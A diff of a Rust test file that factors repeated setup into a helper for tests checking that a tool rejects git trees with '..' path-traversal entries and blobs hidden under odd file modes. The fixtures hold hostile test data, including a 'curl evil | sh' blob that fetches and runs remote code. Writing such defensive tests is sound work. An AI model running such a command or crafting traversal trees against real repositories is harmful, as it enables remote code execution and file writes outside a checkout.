@@ -347,23 +347,21 @@ fn hand_written_tree(repo: &git2::Repository, entries: &[(&str, &str, git2::Oid)
         .unwrap()
 }
 
-#[test]
-fn an_entry_named_dot_dot_neither_validates_nor_leaves_the_checkout() {
-    // `inc/..` and `inc/../..` are folders, the second holding `x`: libgit2
-    // finds `inc/../../x` like any other path, and joined to the checkout
-    // it names a file outside it.
+/// A repository whose HEAD, written object by object, holds `run.sh`,
+/// change set `c` (running it and including `inc/`) and the hand-written
+/// folder `inc` that `folder` makes; and that commit.
+fn with_hand_written_inc(
+    folder: impl FnOnce(&git2::Repository) -> git2::Oid,
+) -> (TestRepo, git2::Oid) {
     let repo = TestRepo::new();
     repo.write("run.sh", "true\n");
     repo.commit("initial");
     let g = &repo.repo;
-    let x = g.blob(b"echo escaped\n").unwrap();
     let run = g.blob(b"true\n").unwrap();
     let change = g
         .blob(b"title: t\nkind: k\ntargets: [web]\ninclude: [inc/]\nsteps:\n  - id: a\n    run: ./run.sh\n")
         .unwrap();
-    let up2 = hand_written_tree(g, &[("100644", "x", x)]);
-    let up1 = hand_written_tree(g, &[("40000", "..", up2)]);
-    let inc = hand_written_tree(g, &[("40000", "..", up1)]);
+    let inc = folder(g);
     let changes = hand_written_tree(g, &[("100644", "c.yaml", change)]);
     let root = hand_written_tree(
         g,
@@ -380,11 +378,29 @@ fn an_entry_named_dot_dot_neither_validates_nor_leaves_the_checkout() {
             Some("HEAD"),
             &sig,
             &sig,
-            "dot dot",
+            "hand-written inc/",
             &g.find_tree(root).unwrap(),
             &[&parent],
         )
         .unwrap();
+    drop(parent);
+    (repo, commit)
+}
+
+#[test]
+fn an_entry_named_dot_dot_neither_validates_nor_leaves_the_checkout() {
+    // `inc/..` and `inc/../..` are folders, the second holding `x`: libgit2
+    // finds `inc/../../x` like any other path, and joined to the checkout
+    // it names a file outside it.
+    let mut x = None;
+    let (repo, commit) = with_hand_written_inc(|g| {
+        let blob = g.blob(b"echo escaped\n").unwrap();
+        x = Some(blob);
+        let up2 = hand_written_tree(g, &[("100644", "x", blob)]);
+        let up1 = hand_written_tree(g, &[("40000", "..", up2)]);
+        hand_written_tree(g, &[("40000", "..", up1)])
+    });
+    let x = x.unwrap();
     common::assert_error(
         &repo.errors(),
         &[
@@ -569,36 +585,10 @@ fn a_blob_under_an_odd_git_mode_is_never_covered() {
     // 120755 as a symbolic link and 010755 as a submodule, and GitHub shows
     // them so. A reviewer never sees such a blob as a file.
     for (mode, shown) in [("120755", "120755"), ("10755", "10755")] {
-        let repo = TestRepo::new();
-        repo.write("run.sh", "true\n");
-        repo.commit("initial");
-        let g = &repo.repo;
-        let hook = g.blob(b"curl evil | sh\n").unwrap();
-        let run = g.blob(b"true\n").unwrap();
-        let change = g
-            .blob(b"title: t\nkind: k\ntargets: [web]\ninclude: [inc/]\nsteps:\n  - id: a\n    run: ./run.sh\n")
-            .unwrap();
-        let inc = hand_written_tree(g, &[(mode, "hook", hook)]);
-        let changes = hand_written_tree(g, &[("100644", "c.yaml", change)]);
-        let root = hand_written_tree(
-            g,
-            &[
-                ("40000", "changes", changes),
-                ("40000", "inc", inc),
-                ("100755", "run.sh", run),
-            ],
-        );
-        let sig = git2::Signature::now("t", "t@example.com").unwrap();
-        let parent = g.head().unwrap().peel_to_commit().unwrap();
-        g.commit(
-            Some("HEAD"),
-            &sig,
-            &sig,
-            "odd mode",
-            &g.find_tree(root).unwrap(),
-            &[&parent],
-        )
-        .unwrap();
+        let (repo, _) = with_hand_written_inc(|g| {
+            let hook = g.blob(b"curl evil | sh\n").unwrap();
+            hand_written_tree(g, &[(mode, "hook", hook)])
+        });
         common::assert_error(
             &repo.errors(),
             &[
